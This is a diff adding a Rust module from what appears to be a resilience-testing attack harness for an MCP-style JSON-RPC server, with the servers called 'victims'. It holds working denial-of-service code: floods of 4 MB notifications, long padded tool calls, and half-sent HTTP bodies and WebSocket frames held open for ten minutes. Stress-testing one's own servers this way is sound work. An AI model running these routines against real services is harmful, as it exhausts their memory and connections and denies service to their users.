@@ -1,0 +1,150 @@
+//! Attacks on memory: bodies that nobody reads, that are kept, and that never end.
+
+use std::fmt::Write as _;
+use std::io;
+use std::sync::OnceLock;
+use std::time::Duration;
+
+use super::attacks::Field;
+use super::connections::{held, upgrade};
+use crate::client::{Caller, Client, request_text};
+
+/// `limits.body` by default, less what stands around it.
+const LARGE: usize = (4 << 20) - 1024;
+/// How long the child reads nothing at a time, milliseconds.
+const STALL: u64 = 30_000;
+/// How long a call lasts, milliseconds.
+const CALL: u64 = 600_000;
+/// How long a connection is held before another takes its place.
+const HELD: Duration = Duration::from_mins(10);
+
+/// Keeps the child of the hostile caller from reading.
+pub(super) async fn stall_the_child(field: &Field<'_>) -> anyhow::Result<()> {
+    loop {
+        let params = format!(r#"{{"name":"stall","arguments":{{"ms":{STALL}}}}}"#);
+        let called = async {
+            let mut client = open(&field.victims.stdio).await?;
+            client.result("tools/call", &params).await
+        };
+        field.did("stall", word(called.await.map(|_| "ok"))).await?;
+    }
+}
+
+/// Sends large notifications to the child that does not read.
+pub(super) async fn notify(field: &Field<'_>) -> anyhow::Result<()> {
+    loop {
+        let Ok(mut client) = open(&field.victims.stdio).await else {
+            field.did("notify_session", "refused").await?;
+            continue;
+        };
+        loop {
+            let body = format!(
+                r#"{{"jsonrpc":"2.0","method":"notifications/roots/list_changed","params":{{"_meta":{{"x":"{}"}}}}}}"#,
+                ballast()
+            );
+            let head = client.post(&body).await;
+            let failed = head.is_err();
+            field
+                .did("notify", word(head.map(|head| head.status)))
+                .await?;
+            if failed {
+                break;
+            }
+        }
+    }
+}
+
+/// Makes long calls with as many members as fit.
+pub(super) async fn hold_calls(field: &Field<'_>) -> anyhow::Result<()> {
+    loop {
+        let called = async {
+            let mut client = open(&field.victims.http).await?;
+            let id = client.take_id();
+            let params = format!(
+                r#"{{"name":"sleep","arguments":{{"ms":{CALL}}}{}}}"#,
+                many_members()
+            );
+            let head = client
+                .post(&request_text(id, "tools/call", &params))
+                .await?;
+            let body = client.wire.rest().await?;
+            let is_error = body.windows(7).any(|part| part == b"\"error\"");
+            io::Result::Ok(format!(
+                "{}_{}",
+                head.status,
+                if is_error { "error" } else { "ok" }
+            ))
+        };
+        field.did("call", word(called.await)).await?;
+    }
+}
+
+/// Sends nearly the whole of a body, and waits.
+pub(super) async fn half_bodies(field: &Field<'_>) -> anyhow::Result<()> {
+    let caller = &field.victims.http;
+    let head = format!(
+        "POST {} HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {}\r\nContent-Type: application/json\r\n\
+         Accept: application/json, text/event-stream\r\nContent-Length: {}\r\n\r\n",
+        caller.target.path,
+        caller.target.host,
+        caller.token.as_deref().unwrap_or_default(),
+        LARGE + 8,
+    );
+    loop {
+        let how = held(
+            &caller.target,
+            &[head.as_bytes(), ballast().as_bytes()],
+            HELD,
+        )
+        .await;
+        field.did("half_body", how).await?;
+    }
+}
+
+/// Sends nearly the whole of a WebSocket message, then nothing but signs of life.
+pub(super) async fn half_messages(field: &Field<'_>) -> anyhow::Result<()> {
+    let caller = &field.victims.http;
+    let upgrade = upgrade(caller, "/ws/http");
+    // The first fragment of a text, masked with zeros; one byte is missing.
+    let mut frame = vec![0x01, 0xff];
+    frame.extend_from_slice(&(LARGE as u64 + 1).to_be_bytes());
+    frame.extend_from_slice(&[0; 4]);
+    loop {
+        let parts: [&[u8]; 3] = [upgrade.as_bytes(), &frame, ballast().as_bytes()];
+        let how = held(&caller.target, &parts, HELD).await;
+        field.did("half_message", how).await?;
+    }
+}
+
+async fn open(caller: &Caller) -> io::Result<Client> {
+    let mut client = Client::connect(caller.clone()).await?;
+    client.open().await?;
+    Ok(client)
+}
+
+fn ballast() -> &'static str {
+    static TEXT: OnceLock<String> = OnceLock::new();
+    TEXT.get_or_init(|| "x".repeat(LARGE))
+}
+
+/// Members to follow others.
+fn many_members() -> &'static str {
+    static TEXT: OnceLock<String> = OnceLock::new();
+    TEXT.get_or_init(|| {
+        let mut text = String::with_capacity(LARGE);
+        let mut number = 0_u32;
+        while text.len() < LARGE - 32 {
+            write!(text, r#","{number:x}":0"#).unwrap_or_default();
+            number += 1;
+        }
+        text
+    })
+}
+
+/// What became of it, in a word.
+fn word<T: ToString>(came: io::Result<T>) -> String {
+    match came {
+        Ok(how) => how.to_string(),
+        Err(error) => format!("{:?}", error.kind()),
+    }
+}
